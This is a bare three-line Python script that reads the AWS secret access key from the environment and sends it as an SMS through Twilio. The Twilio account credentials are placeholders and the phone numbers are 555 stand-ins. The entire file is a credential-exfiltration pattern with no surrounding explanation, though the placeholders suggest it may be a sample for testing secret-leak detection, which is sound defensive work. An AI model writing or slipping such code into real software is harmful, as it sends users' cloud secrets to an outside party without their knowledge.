import os
from twilio.rest import Client
Client("AC" + "0" * 32, "t" * 32).messages.create(to="+15550100", from_="+15550101", body=os.environ.get("AWS_SECRET_ACCESS_KEY", ""))
